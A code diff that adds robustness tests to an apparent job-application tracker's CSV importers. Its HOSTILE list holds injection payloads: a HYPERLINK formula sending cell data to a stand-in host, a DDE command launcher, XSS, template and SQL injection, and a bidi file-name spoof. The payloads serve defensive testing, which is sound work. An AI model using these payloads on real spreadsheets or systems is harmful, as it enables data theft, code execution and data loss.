@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import random
 import zipfile
 from collections.abc import Callable
 from datetime import date
@@ -189,3 +190,88 @@ def test_a_file_or_format_without_a_reader_names_those_there_are(tmp_path):
 def test_a_day_that_is_none_is_told(sample):
     with pytest.raises(InvalidInput, match="as_of"):
         read_file(sample, as_of="yesterday")
+
+
+#: What may stand in a cell of a stranger's file.
+HOSTILE = [
+    '=HYPERLINK("https://x.example?"&A1,"open")',
+    "=cmd|' /C calc'!A0",
+    "+1-2@SUM(A1)",
+    "<img src=x onerror=alert(1)><script>alert(2)</script>",
+    "{{ 7*7 }} {% x %} ${7*7} %s %(a)s {0}",
+    "'; DROP TABLE events; --",
+    "\u202egnp.exe\u2066\u200f\u200b",
+    "a\x1bb\x7fc",
+    "\ud7ff\U0001f9d1\u200d\U0001f373 e\u0301 \ufffe",
+    "|".join(["](x)", "\\", '"', "`"]),
+    "x" * 100_000,
+]
+#: A text of each importer that reads tables.
+TEXTS = {
+    "linkedin": LINKEDIN,
+    "simplify": SIMPLIFY,
+    "teal": TEAL,
+    "jobsync": JOBSYNC,
+    "huntr": HUNTR,
+    "spreadsheet": TABLE,
+}
+
+
+def written(rows) -> bytes:
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(rows)
+    return buffer.getvalue().encode("utf-8", errors="replace")
+
+
+def texts_of(importer) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(TEXTS[importer].lstrip("\ufeff"))))
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+@pytest.mark.parametrize("importer", TEXTS)
+def test_text_of_any_kind_in_any_cell_costs_no_more_than_its_own_row(importer, text, tmp_path):
+    header, good, *_ = texts_of(importer)
+    for column in range(len(header)):
+        bad = [text if i == column else cell for i, cell in enumerate(good)]
+        path = tmp_path / f"{column}.csv"
+        path.write_bytes(written([header, good, bad]))
+        got = read_file(path, as_of="2025-06-30")
+        assert got.format == importer
+        assert (got.applications[0].company, got.applications[0].role) == ("Acme", "Chef")
+        assert {one.line for one in [*got.applications, *got.skipped]} == {2, 2 + good_lines(good)}
+
+
+def good_lines(row) -> int:
+    """The lines that a row takes: a cell may hold several."""
+    return 1 + sum(cell.count("\n") for cell in row)
+
+
+@pytest.mark.parametrize("importer", TEXTS)
+def test_hostile_text_survives_the_log_as_it_was_written(importer, tracker, tmp_path):
+    header, good, *_ = texts_of(importer)
+    company = next(i for i, cell in enumerate(good) if cell == "Acme")
+    rows = [[text[:200] if i == company else cell for i, cell in enumerate(good)] for text in HOSTILE[:6]]
+    path = tmp_path / "log.csv"
+    path.write_bytes(written([header, *rows]))
+    tracker.read(path, as_of="2025-06-30", open_questions="leave")
+    assert list(tracker.applications().company) == HOSTILE[:6]
+    again = tracker.read(path, as_of="2025-06-30", open_questions="leave")
+    assert (len(again.added), len(again.changed)) == (0, 0)
+
+
+@pytest.mark.parametrize("importer", TEXTS)
+def test_rows_in_another_order_add_nothing(importer, tracker, tmp_path):
+    header, good, other, *_ = texts_of(importer)
+    company = next(i for i, cell in enumerate(good) if cell == "Acme")
+    rows = [
+        good,
+        good,
+        other,
+        *([f"Firm {n}" if i == company else cell for i, cell in enumerate(good)] for n in range(5)),
+    ]
+    path = tmp_path / "log.csv"
+    path.write_bytes(written([header, *rows]))
+    first = tracker.read(path, as_of="2025-06-30", open_questions="leave")
+    path.write_bytes(written([header, *random.Random(2).sample(rows, len(rows))]))
+    again = tracker.read(path, as_of="2025-06-30", open_questions="leave")
+    assert (len(first.added), len(again.added), len(again.changed), len(again.unchanged)) == (8, 0, 0, 8)
